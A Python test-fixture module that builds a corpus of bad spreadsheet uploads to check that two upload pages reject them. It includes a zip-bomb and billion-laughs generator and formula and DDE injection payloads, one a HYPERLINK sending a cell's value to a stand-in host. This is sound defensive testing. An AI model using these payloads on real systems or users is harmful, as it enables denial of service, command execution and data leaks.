"""The bad-input corpus: files that no upload may take, built here (no binary file is kept).

Each case builds its bytes from a `Target`: a valid upload of one path (the registry's
volunteers table, or a town's survey workbook) and the cells to spoil in it. What is not a
workbook at all (an empty file, a renamed .csv, an old .xls, an encrypted workbook, a zip bomb …)
is the same for both paths; a spoiled workbook is spoiled in the target's own sheet and cells.
Workbooks are edited with openpyxl where it can write the damage, and in the zip's XML where
it cannot (NaN in a number cell, NUL in a string, a shared string that does not exist …).

tests/test_bad_input_corpus.py runs every case through both upload pages.
"""

from __future__ import annotations

import functools
import io
import re
import zipfile
from collections.abc import Callable
from dataclasses import dataclass, field

from openpyxl import Workbook, load_workbook

from tests.xlsx import book_bytes

MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
SHARED_STRINGS_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"
OLE2 = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"


@dataclass(frozen=True)
class Target:
    """A valid upload of one path and where to spoil it: (sheet, coordinate) of a cell of each kind."""

    path: str  # "registry" or "survey"
    data: bytes
    sheet: str  # the (first) data sheet
    number: tuple[str, str]  # a whole-number cell of a data row
    text: tuple[str, str]  # a name
    code: tuple[str, str]  # a committee code (a key)
    money: tuple[str, str]  # a cell of at most 2 decimals (the registry has none: a number cell)
    data_row: int  # a data row to copy (a duplicate key)
    other_town: bytes = b""  # another town's valid upload
    other_year: bytes = b""  # another year's valid upload
    extra: dict = field(default_factory=dict)


# Zip and XML surgery ------------------------------------------------------------------------


def entries(data: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def rezip(parts: dict[str, bytes], *, compression=zipfile.ZIP_DEFLATED) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", compression) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return out.getvalue()


def with_parts(data: bytes, changes: dict[str, Callable[[bytes], bytes]]) -> bytes:
    """The workbook with some of its parts rewritten (or added): part name → change(old bytes)."""
    parts = entries(data)
    for name, change in changes.items():
        parts[name] = change(parts.get(name, b""))
    return rezip(parts)


def sheet_part(data: bytes, sheet: str) -> str:
    """The part of a sheet in a workbook openpyxl saved: xl/worksheets/sheet<n>.xml in sheet order."""
    book = load_workbook(io.BytesIO(data), read_only=True)
    try:
        return f"xl/worksheets/sheet{book.sheetnames.index(sheet) + 1}.xml"
    finally:
        book.close()


def raw_cell(data: bytes, where: tuple[str, str], xml: str) -> bytes:
    """The workbook with one cell's XML replaced: `xml` is what goes inside <c r=".." …>."""
    sheet, coordinate = where
    part = sheet_part(data, sheet)
    cell = re.compile(rf'<c r="{coordinate}"(?: [^>]*?)?(?:/>|>.*?</c>)'.encode(), re.S)
    parts = entries(data)
    new = f'<c r="{coordinate}"{xml}</c>'.encode()
    replaced, count = cell.subn(lambda m: new, parts[part], count=1)
    if not count:  # an empty cell openpyxl did not write: add it at the end of its row
        row = re.sub(r"[A-Z]+", "", coordinate)
        replaced, count = re.subn(rf'(<row r="{row}"[^>]*>.*?)(</row>)'.encode(), lambda m: m[1] + new + m[2],
                                  parts[part], count=1, flags=re.S)  # fmt: skip
    assert count, (sheet, coordinate)
    parts[part] = replaced
    return rezip(parts)


def raw_text(data: bytes, where: tuple[str, str], text: str) -> bytes:
    """A string cell whose XML holds `text` as it is (it may hold `&#0;` or a raw NUL)."""
    return raw_cell(data, where, f' t="inlineStr"><is><t>{text}</t></is>')


def shared_string(data: bytes, where: tuple[str, str], index: int, strings: list[str]) -> bytes:
    """The cell refers to shared string `index` of a shared-string table holding `strings` (raw XML)."""
    spoiled = raw_cell(data, where, f' t="s"><v>{index}</v>')
    items = "".join(f"<si><t>{s}</t></si>" for s in strings)
    table = f'<?xml version="1.0" encoding="UTF-8"?><sst xmlns="{MAIN}" count="{len(strings)}">{items}</sst>'
    return with_parts(spoiled, _shared_strings_part(table.encode()))


def _shared_strings_part(table: bytes) -> dict[str, Callable[[bytes], bytes]]:
    return {
        "xl/sharedStrings.xml": lambda _old: table,
        "[Content_Types].xml": _with_override("/xl/sharedStrings.xml", SHARED_STRINGS_TYPE),
    }


def _with_override(part: str, content_type: str) -> Callable[[bytes], bytes]:
    def change(types: bytes) -> bytes:
        return types.replace(
            b"</Types>", f'<Override PartName="{part}" ContentType="{content_type}"/></Types>'.encode()
        )

    return change


def edit(data: bytes, change: Callable) -> bytes:
    """The workbook edited by openpyxl: change(book)."""
    book = load_workbook(io.BytesIO(data))
    for ws in book.worksheets:
        ws.protection.sheet = False
    change(book)
    return book_bytes(book)


def set_cell(data: bytes, where: tuple[str, str], value) -> bytes:
    def change(book):
        book[where[0]][where[1]].value = value

    return edit(data, change)


# Files that are not workbooks ---------------------------------------------------------------


def ole2(*streams: str) -> bytes:
    """An OLE2 compound file's header and a directory naming `streams` (UTF-16LE, as Office writes them)."""
    directory = b"".join(name.encode("utf-16-le").ljust(64, b"\0") + b"\0" * 64 for name in ("Root Entry", *streams))
    return OLE2 + b"\0" * 504 + directory + b"\0" * 2048


@functools.cache
def zip_bomb(megabytes: int = 400) -> bytes:
    """A workbook whose one sheet unpacks to `megabytes` MB of the same string (about 1 MB packed)."""
    good = entries(_tiny_workbook())
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as archive:
        for name, content in good.items():
            if name != "xl/worksheets/sheet1.xml":
                archive.writestr(name, content)
        with archive.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as sheet:
            sheet.write(f'<worksheet xmlns="{MAIN}"><sheetData>'.encode())
            row = b'<row r="1"><c r="A1" t="inlineStr"><is><t>' + b"\xe7\x82\xb8" * 4000 + b"</t></is></c></row>"
            chunk = row * 256
            for _ in range(-(-megabytes * 1024 * 1024 // len(chunk))):
                sheet.write(chunk)
            sheet.write(b"</sheetData></worksheet>")
    return out.getvalue()


def _tiny_workbook() -> bytes:
    book = Workbook()
    book.active.append(["x"])
    return book_bytes(book)


@functools.cache
def huge_shared_strings(megabytes: int = 120) -> bytes:
    """A shared-string table of `megabytes` MB of strings (1,000 distinct): past the unpacked limit."""
    out = io.BytesIO()
    parts = entries(_tiny_workbook())
    parts["[Content_Types].xml"] = _with_override("/xl/sharedStrings.xml", SHARED_STRINGS_TYPE)(
        parts["[Content_Types].xml"]
    )
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
        with archive.open("xl/sharedStrings.xml", "w", force_zip64=True) as table:
            table.write(f'<sst xmlns="{MAIN}">'.encode())
            block = b"".join(b"<si><t>\xe5\xad\x97%08d</t></si>" % n for n in range(1000)) * 10
            for _ in range(megabytes * 1024 * 1024 // len(block)):
                table.write(block)
            table.write(b"</sst>")
    return out.getvalue()


def many_parts(data: bytes, count: int = 2000) -> bytes:
    parts = entries(data)
    parts.update({f"customXml/item{n}.xml": b"<a/>" for n in range(count)})
    return rezip(parts)


def truncated(data: bytes) -> bytes:
    return data[: len(data) // 2]


def cut_tail(data: bytes) -> bytes:
    return data[:-30]  # the end of the zip's directory is gone


def bad_crc(data: bytes, target: Target) -> bytes:
    """A sheet's packed bytes changed after the zip was written: the entry no longer checks out."""
    part = sheet_part(data, target.sheet)
    parts = entries(data)
    spoiled = rezip(parts, compression=zipfile.ZIP_STORED)
    content = parts[part]
    at = spoiled.index(content) + len(content) // 2
    return spoiled[:at] + bytes([spoiled[at] ^ 0x20]) + spoiled[at + 1 :]


def macro_enabled(data: bytes) -> bytes:
    parts = entries(data)
    parts["xl/vbaProject.bin"] = OLE2 + b"\0" * 512
    parts["[Content_Types].xml"] = parts["[Content_Types].xml"].replace(
        b"application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
        b"application/vnd.ms-excel.sheet.macroEnabled.main+xml",
    )
    return rezip(parts)


def billion_laughs(data: bytes, target: Target) -> bytes:
    entities = '<!ENTITY a "haha">' + "".join(
        f'<!ENTITY {chr(98 + n)} "{("&" + chr(97 + n) + ";") * 10}">' for n in range(9)
    )
    strings = f'<?xml version="1.0"?><!DOCTYPE sst [{entities}]><sst xmlns="{MAIN}"><si><t>&j;</t></si></sst>'
    spoiled = raw_cell(data, target.text, ' t="s"><v>0</v>')
    return with_parts(spoiled, _shared_strings_part(strings.encode()))


def not_well_formed(data: bytes, target: Target) -> bytes:
    part = sheet_part(data, target.sheet)
    return with_parts(data, {part: lambda xml: xml[: len(xml) * 2 // 3]})


def without_part(data: bytes, name: str) -> bytes:
    parts = entries(data)
    del parts[name]
    return rezip(parts)


def duplicate_entry(data: bytes) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in entries(data).items():
            archive.writestr(name, content)
        with __import__("warnings").catch_warnings():
            __import__("warnings").simplefilter("ignore")
            archive.writestr("xl/workbook.xml", b"<workbook/>")
    return out.getvalue()


def csv_of(target: Target, encoding: str = "utf-8-sig", sep: str = ",") -> bytes:
    book = load_workbook(io.BytesIO(target.data), read_only=True)
    lines = [
        sep.join("" if v is None else str(v) for v in row)
        for row in book[target.sheet].iter_rows(max_row=5, values_only=True)
    ]
    book.close()
    return ("\r\n".join(lines) + "\r\n").encode(encoding)


def html_table(target: Target) -> bytes:
    return f"<html><body><table><tr><td>{target.sheet}</td></tr></table></body></html>".encode()


SPREADSHEET_ML = (
    '<?xml version="1.0"?><?mso-application progid="Excel.Sheet"?>'
    '<Workbook xmlns="urn:schemas-microsoft-com:office:spreadsheet"><Worksheet ss:Name="x"/></Workbook>'
)


def word_document() -> bytes:
    return rezip({"[Content_Types].xml": b"<Types/>", "word/document.xml": b"<w:document/>"})


def ods() -> bytes:
    return rezip(
        {"mimetype": b"application/vnd.oasis.opendocument.spreadsheet", "content.xml": b"<office:document/>"},
        compression=zipfile.ZIP_STORED,
    )


def xlsb(data: bytes) -> bytes:
    parts = entries(data)
    parts["xl/workbook.bin"] = b"\x83\x01\x00"
    del parts["xl/workbook.xml"]
    return rezip(parts)


# Spoiled workbooks ----------------------------------------------------------------------------


def rename_sheets(data: bytes, target: Target) -> bytes:
    def change(book):
        for n, ws in enumerate(book.worksheets):
            if ws.sheet_state == "visible" and ws.title != "填表说明":
                ws.title = f"Sheet{n + 1}"

    return edit(data, change)


def only_instructions(data: bytes, target: Target) -> bytes:
    def change(book):
        for ws in list(book.worksheets):
            if ws.sheet_state == "visible" and ws.title != "填表说明":
                book.remove(ws)
        if not any(ws.sheet_state == "visible" for ws in book.worksheets):
            book.create_sheet("Sheet1")

    return edit(data, change)


def header_cell(book, where: tuple[str, str]):
    ws = book[where[0]]
    column = re.sub(r"[0-9]+", "", where[1])
    return ws[f"{column}1"]


def rename_header(data: bytes, target: Target, where: tuple[str, str], header: str) -> bytes:
    return edit(data, lambda book: setattr(header_cell(book, where), "value", header))


def delete_column(data: bytes, target: Target, where: tuple[str, str]) -> bytes:
    def change(book):
        ws = book[where[0]]
        ws.delete_cols(header_cell(book, where).column)

    return edit(data, change)


def header_on_row_7(data: bytes, target: Target) -> bytes:
    def change(book):
        ws = book[target.sheet]
        ws.insert_rows(1, 6)
        ws["A1"] = "填报单位："

    return edit(data, change)


def merged_data(data: bytes, target: Target) -> bytes:
    def change(book):
        ws = book[target.number[0]]
        column = re.sub(r"[0-9]+", "", target.number[1])
        ws.merge_cells(f"{column}{target.data_row}:{column}{target.data_row + 1}")

    return edit(data, change)


def duplicated_row(data: bytes, target: Target) -> bytes:
    def change(book):
        ws = book[target.sheet]
        source = target.data_row
        ws.insert_rows(source + 1)
        for cell in ws[source]:
            ws.cell(source + 1, cell.column, cell.value)

    return edit(data, change)


def tampered_meta(data: bytes, target: Target, key: str, value) -> bytes:
    def change(book):
        if "meta" not in book.sheetnames:  # the registry has no meta sheet: add a stranger's
            ws = book.create_sheet("meta")
            ws.sheet_state = "hidden"
        ws = book["meta"]
        for cells in ws.iter_rows():
            if cells[0].value == key:
                cells[1].value = value
                break
        else:
            ws.append([key, value])
        if target.path == "registry":  # and a cell that refuses the file
            book[target.number[0]][target.number[1]].value = "meta"

    return edit(data, change)


def meta_visible_and_emptied(data: bytes, target: Target) -> bytes:
    def change(book):
        if "meta" in book.sheetnames:
            ws = book["meta"]
            ws.sheet_state = "visible"
            for cells in ws.iter_rows():
                cells[1].value = None
        else:
            book[target.number[0]][target.number[1]].value = "meta"

    return edit(data, change)


def other_template(data: bytes, target: Target, which: str) -> bytes:
    return target.other_town if which == "town" else target.other_year


# The corpus --------------------------------------------------------------------------------------

Case = Callable[[Target], bytes]


def _cell(kind: str, value) -> Case:
    return lambda t: set_cell(t.data, getattr(t, kind), value)


def _raw(kind: str, xml: str) -> Case:
    return lambda t: raw_cell(t.data, getattr(t, kind), xml)


def _raw_text(kind: str, text: str) -> Case:
    return lambda t: raw_text(t.data, getattr(t, kind), text)


CORPUS: dict[str, Case] = {
    # not a workbook at all
    "empty file": lambda t: b"",
    "one byte": lambda t: b"P",
    "renamed csv (UTF-8)": lambda t: csv_of(t),
    "renamed csv (GBK)": lambda t: csv_of(t, "gbk"),
    "renamed tab-separated text": lambda t: csv_of(t, "utf-8", "\t"),
    "web page saved as .xls": html_table,
    "Excel 2003 XML spreadsheet": lambda t: SPREADSHEET_ML.encode(),
    "old .xls renamed (OLE2 workbook)": lambda t: ole2("Workbook", "\x05SummaryInformation"),
    "password-protected workbook (OLE2 EncryptedPackage)": lambda t: ole2(
        "EncryptionInfo", "EncryptedPackage", "\x06DataSpaces"
    ),
    "Word 97 document renamed": lambda t: ole2("WordDocument", "1Table"),
    "PDF renamed": lambda t: b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<<>>\nendobj\n",
    "PNG renamed": lambda t: b"\x89PNG\r\n\x1a\n" + b"\0" * 64,
    "gzip archive renamed": lambda t: b"\x1f\x8b\x08\x00" + b"\0" * 64,
    # a zip, but not an .xlsx
    "empty zip archive": lambda t: rezip({}),
    "zip of a csv": lambda t: rezip({"data.csv": csv_of(t)}),
    "Word document (.docx) renamed": lambda t: word_document(),
    "OpenDocument spreadsheet (.ods)": lambda t: ods(),
    "binary workbook (.xlsb)": lambda t: xlsb(t.data),
    "macro-enabled workbook (.xlsm)": lambda t: macro_enabled(t.data),
    "workbook without [Content_Types].xml": lambda t: without_part(t.data, "[Content_Types].xml"),
    "workbook without xl/workbook.xml": lambda t: without_part(t.data, "xl/workbook.xml"),
    "two entries of one name": lambda t: duplicate_entry(t.data),
    "workbook.xml not well-formed": lambda t: with_parts(t.data, {"xl/workbook.xml": lambda xml: xml[:-40]}),
    "styles.xml holding a NUL": lambda t: with_parts(t.data, {"xl/styles.xml": lambda xml: b"\x00" + xml}),
    # a damaged or hostile zip
    "truncated to half": lambda t: truncated(t.data),
    "last bytes cut off": lambda t: cut_tail(t.data),
    "a sheet's bytes changed (bad CRC)": lambda t: bad_crc(t.data, t),
    "zip bomb (2 MB holding 400 MB of strings)": lambda t: zip_bomb(),
    "huge shared-string table (120 MB)": lambda t: huge_shared_strings(),
    "2,000 parts": lambda t: many_parts(t.data),
    "billion laughs in the shared strings": lambda t: billion_laughs(t.data, t),
    "sheet XML cut off": lambda t: not_well_formed(t.data, t),
    # sheets and columns
    "wrong sheet names": lambda t: rename_sheets(t.data, t),
    "no data sheet": lambda t: only_instructions(t.data, t),
    "required column missing": lambda t: delete_column(t.data, t, t.code),
    "header renamed": lambda t: rename_header(t.data, t, t.number, "数量"),
    "header on row 7": lambda t: header_on_row_7(t.data, t),
    "merged data cells": lambda t: merged_data(t.data, t),
    "duplicated key": lambda t: duplicated_row(t.data, t),
    # cells
    "formula in a number cell": _cell("number", "=1+1"),
    "formula injection (HYPERLINK) in a number cell": _raw_text(
        "number", "=HYPERLINK(&quot;http://evil.example/?&quot;&amp;A1,&quot;点我&quot;)"
    ),
    "DDE injection in a number cell": _raw_text("number", "=cmd|' /C calc'!A0"),
    "@-injection in a number cell": _raw_text("number", "@SUM(1+1)*cmd|' /C calc'!A0"),
    "+-injection in a number cell": _raw_text("number", "+1+cmd|' /C calc'!A0"),
    "text in a number cell": _cell("number", "十二"),
    "negative number": _cell("number", -3),
    "1e308": _raw("number", ' t="n"><v>1e308</v>'),
    "1e309 (infinity)": _raw("number", ' t="n"><v>1e309</v>'),
    "NaN in a number cell": _raw("number", ' t="n"><v>NaN</v>'),
    "INF in a number cell": _raw("number", ' t="n"><v>INF</v>'),
    "NaN typed as text": _cell("number", "NaN"),
    "5-decimal money": _cell("money", 1.23456),
    "date in a number cell": _raw("number", ' t="d"><v>not-a-date</v>'),
    "boolean 7 in a number cell": _raw("number", ' t="b"><v>7</v>'),
    "Excel error #DIV/0! in a number cell": _raw("number", ' t="e"><v>#DIV/0!</v>'),
    "shared string that does not exist": lambda t: shared_string(t.data, t.number, 99, ["一"]),
    "style that does not exist": _raw("number", ' s="x9"><v>3</v>'),
    "&#0; in a text cell": _raw_text("text", "张&#0;三"),
    "raw NUL in a text cell": _raw_text("text", "张\x00三"),
    "&#0; in a shared string": lambda t: shared_string(t.data, t.text, 0, ["张&#0;三"]),
    "vertical tab (&#11;) in a code": _raw_text("code", "XS01&#11;V01"),
    "escape character in a text cell": _raw_text("text", "张\x1b[31m三"),
    "DEL in a text cell": _cell("text", "张\x7f三"),
    "C1 control (U+0085) in a text cell": _cell("text", "张\x85三"),
    "right-to-left override in a code": _cell("code", "\u202e10V10SX"),
    "emoji in a code": _cell("code", "XS01V01😀"),
    "zero-width space in a code": _cell("code", "XS01\u200bV01"),
    "10,000-character name": _cell("text", "张" * 10000),
    "10,000-character code": _cell("code", "X" * 10000),
    "a code of another town": lambda t: set_cell(t.data, t.code, t.extra["foreign_code"]),
    "another town's template": lambda t: other_template(t.data, t, "town"),
    "another year's template": lambda t: other_template(t.data, t, "year"),
    "tampered hidden meta sheet (spec version)": lambda t: tampered_meta(t.data, t, "spec_version", "1999.9"),
    "tampered hidden meta sheet (town)": lambda t: tampered_meta(t.data, t, "town", "XS03"),
    "hidden meta sheet shown and emptied": lambda t: meta_visible_and_emptied(t.data, t),
}
